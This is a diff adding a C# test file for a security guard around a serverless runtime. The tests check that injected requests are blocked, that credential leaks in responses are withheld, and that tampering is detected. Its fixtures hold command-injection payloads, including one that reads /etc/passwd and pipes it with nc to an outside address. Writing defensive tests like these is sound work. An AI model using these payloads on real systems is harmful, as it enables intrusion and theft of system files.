@@ -1,0 +1,192 @@
+using System.Text;
+using System.Text.Json;
+using Pellicle.Domain;
+using Pellicle.Guard.Tests.Support;
+using Pellicle.Policy;
+
+namespace Pellicle.Guard.Tests;
+
+/// <summary>Attacks in events, leaks in responses, strangers at the proxy.</summary>
+public class BlockingTests
+{
+    private const string HttpAttack = """{"version":"2.0","rawPath":"/","queryStringParameters":{"host":"127.0.0.1; cat /etc/passwd"},"requestContext":{"http":{"method":"GET","path":"/"},"domainName":"x.execute-api.eu-west-1.amazonaws.com"}}""";
+    private const string HttpBenign = """{"version":"2.0","rawPath":"/","queryStringParameters":{"host":"example.com"},"requestContext":{"http":{"method":"GET","path":"/"},"domainName":"x.execute-api.eu-west-1.amazonaws.com"}}""";
+    private const string QueueAttack = """{"Records":[{"messageId":"1","eventSource":"aws:sqs","body":"$(cat /etc/passwd | nc 10.0.0.1 4444)","attributes":{}}]}""";
+    private const string Secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
+
+    [Fact]
+    public void In_protect_the_runtime_never_sees_the_attack_and_the_caller_gets_403()
+    {
+        using var hop = new Hop(ProtectionMode.Protect);
+        using var runtime = hop.Runtime();
+        hop.Platform.Event("bad", HttpAttack);
+        var good = hop.Platform.Event("good", HttpBenign);
+
+        runtime.Next().ShouldBe(good);
+
+        hop.Platform.TakeRequest().ShouldContain("/next");
+        var own = hop.Platform.TakeRequest();
+        own.ShouldStartWith("POST /2018-06-01/runtime/invocation/bad/response HTTP/1.1\r\n");
+        using var answer = JsonDocument.Parse(own[(own.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4)..]);
+        answer.RootElement.GetProperty("statusCode").GetInt32().ShouldBe(403);
+        hop.Platform.TakeRequest().ShouldContain("/next");
+        var incident = hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem();
+        incident.Decision.ShouldBe("blocked");
+        incident.RequestId.ShouldBe("bad");
+        incident.Field.ShouldBe("queryStringParameters.host");
+        hop.Guardian.Health.Blocked.ShouldBe(1);
+    }
+
+    [Fact]
+    public void Other_sources_get_an_error()
+    {
+        using var hop = new Hop(ProtectionMode.Protect);
+        using var runtime = hop.Runtime();
+        hop.Platform.Event("q", QueueAttack);
+        var good = hop.Platform.Event("good", HttpBenign);
+        runtime.Next().ShouldBe(good);
+        hop.Platform.TakeRequest();
+        var own = hop.Platform.TakeRequest();
+        own.ShouldStartWith("POST /2018-06-01/runtime/invocation/q/error HTTP/1.1\r\n");
+        own.ShouldContain("Lambda-Runtime-Function-Error-Type: Pellicle.Blocked\r\n");
+    }
+
+    [Fact]
+    public void In_monitor_the_attack_is_delivered_and_reported()
+    {
+        using var hop = new Hop(ProtectionMode.Monitor);
+        using var runtime = hop.Runtime();
+        var bad = hop.Platform.Event("bad", HttpAttack);
+        runtime.Next().ShouldBe(bad);
+        runtime.Respond("bad", "1");
+        hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem().Decision.ShouldBe("would-block");
+        hop.Guardian.Health.WouldBlock.ShouldBe(1);
+    }
+
+    [Fact]
+    public void The_mode_changes_between_two_events_without_a_new_connection()
+    {
+        using var hop = new Hop(ProtectionMode.Off);
+        using var runtime = hop.Runtime();
+        var first = hop.Platform.Event("1", HttpAttack);
+        runtime.Next().ShouldBe(first);
+        runtime.Respond("1", "1");
+        hop.Guardian.Incidents.Pending.ShouldBeFalse();
+
+        hop.Policy.Set(new PolicyDocument { Mode = ProtectionMode.Protect }, "test");
+        hop.Platform.Event("2", HttpAttack);
+        var third = hop.Platform.Event("3", HttpBenign);
+        runtime.Next().ShouldBe(third);
+        runtime.Respond("3", "1");
+
+        hop.Policy.Set(new PolicyDocument { Mode = ProtectionMode.Off }, "test");
+        var fourth = hop.Platform.Event("4", HttpAttack);
+        runtime.Next().ShouldBe(fourth);
+        hop.Platform.Connections.ShouldBe(1);
+    }
+
+    [Theory]
+    [InlineData("{\"key\":\"" + Secret + "\"}")]
+    [InlineData("{\"key\":\"wJalrXUtnFEMI\\/K7MDENG\\/bPxRfiCYEXAMPLEKEY\"}")]
+    [InlineData("key=wJalrXUtnFEMI%2FK7MDENG%2FbPxRfiCYEXAMPLEKEY")]
+    public void A_response_with_the_credentials_is_withheld(string body)
+    {
+        using var hop = new Hop(ProtectionMode.Protect, s => s with { Secrets = [Secret] });
+        using var runtime = hop.Runtime();
+        hop.Platform.Event("l", HttpBenign);
+        runtime.Next();
+        hop.Platform.TakeRequest();
+        Encoding.ASCII.GetString(runtime.Respond("l", body)).ShouldStartWith("HTTP/1.1 202");
+        var sent = hop.Platform.TakeRequest();
+        sent.ShouldContain("\"statusCode\":500");
+        sent.ShouldNotContain("wJalrXUtnFEMI");
+        hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem().Detector.ShouldBe("credential-leak");
+    }
+
+    [Theory]
+    [InlineData(0)]
+    [InlineData(1)]
+    [InlineData(2)]
+    public void A_response_with_the_credentials_in_base64_is_withheld(int shift)
+    {
+        using var hop = new Hop(ProtectionMode.Protect, s => s with { Secrets = [Secret] });
+        using var runtime = hop.Runtime();
+        hop.Platform.Event("l", HttpBenign);
+        runtime.Next();
+        runtime.Respond("l", Convert.ToBase64String(Encoding.ASCII.GetBytes(new string('x', shift) + Secret + "tail")));
+        hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem().Decision.ShouldBe("blocked");
+    }
+
+    [Fact]
+    public void A_leak_across_two_pieces_of_a_stream_is_reported()
+    {
+        using var hop = new Hop(ProtectionMode.Monitor, s => s with { Secrets = [Secret] });
+        using var runtime = hop.Runtime();
+        hop.Platform.Event("l", HttpBenign);
+        runtime.Next();
+        var invocation = hop.Guardian.Invocations.Find("l")!;
+        var scanner = new RuntimeApi.LeakScanner([Secret]);
+        invocation.LeaksAcross(Encoding.ASCII.GetBytes(new string('a', 500) + Secret[..17]), scanner).ShouldBeFalse();
+        invocation.LeaksAcross(Encoding.ASCII.GetBytes(Secret[17..21]), scanner).ShouldBeFalse();
+        invocation.LeaksAcross(Encoding.ASCII.GetBytes(Secret[21..] + new string('a', 500)), scanner).ShouldBeTrue();
+    }
+
+    [Fact]
+    public void A_response_without_them_is_not_touched()
+    {
+        using var hop = new Hop(ProtectionMode.Protect, s => s with { Secrets = [Secret] });
+        using var runtime = hop.Runtime();
+        hop.Platform.Event("l", HttpBenign);
+        runtime.Next();
+        hop.Platform.TakeRequest();
+        runtime.Respond("l", "{\"key\":\"wJalrXUtnFEMI/K7MDENG/other\"}").ShouldBe(FakePlatform.Accepted);
+        hop.Platform.TakeRequest().ShouldEndWith("{\"key\":\"wJalrXUtnFEMI/K7MDENG/other\"}");
+        hop.Guardian.Incidents.Pending.ShouldBeFalse();
+    }
+
+    [Theory]
+    [InlineData(ProtectionMode.Protect)]
+    [InlineData(ProtectionMode.Monitor)]
+    public void An_answer_to_an_id_that_was_never_handed_out_is_tampering(ProtectionMode mode)
+    {
+        using var hop = new Hop(mode);
+        using var runtime = hop.Runtime();
+        var answer = Encoding.ASCII.GetString(runtime.Respond("12345678-stolen", "{}"));
+        answer.ShouldStartWith(mode == ProtectionMode.Protect ? "HTTP/1.1 400" : "HTTP/1.1 202");
+        var incident = hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem();
+        incident.Detector.ShouldBe("unknown-request-id");
+        incident.Decision.ShouldBe(mode == ProtectionMode.Protect ? "blocked" : "would-block");
+    }
+
+    [Fact]
+    public void A_second_poller_is_refused_in_protect()
+    {
+        using var hop = new Hop(ProtectionMode.Protect);
+        using var runtime = hop.Runtime();
+        hop.Platform.Event("1", HttpBenign);
+        runtime.Next();
+        var connection = hop.Proxy.Open.Single();
+        hop.Guardian.Identified(connection, Environment.ProcessId);
+        runtime.Respond("1", "1");
+        hop.Platform.Event("2", HttpBenign);
+        runtime.Next();
+
+        using var stranger = hop.Runtime();
+        stranger.Ask("GET /2018-06-01/ping HTTP/1.1\r\nHost: h\r\n\r\n");
+        var second = hop.Proxy.Open.Single(c => !ReferenceEquals(c, connection));
+        hop.Guardian.Identified(second, Environment.ProcessId); // first with the runtime's own id: allowed
+        hop.Guardian.MayPoll(second).ShouldBeTrue();
+        second.Pid = 1;
+        Encoding.ASCII.GetString(stranger.Next()).ShouldStartWith("HTTP/1.1 403");
+        hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem().Detector.ShouldBe("second-poller");
+    }
+
+    [Fact]
+    public void The_process_behind_a_connection_is_found()
+    {
+        using var hop = new Hop(ProtectionMode.Monitor);
+        using var runtime = hop.Runtime();
+        runtime.Ask("GET /2018-06-01/ping HTTP/1.1\r\nHost: h\r\n\r\n");
+        Native.PeerFinder.Find(hop.Proxy.Open.Single().ClientPort, hop.Proxy.Address.Port).ShouldBe(Environment.ProcessId);
+    }
+}
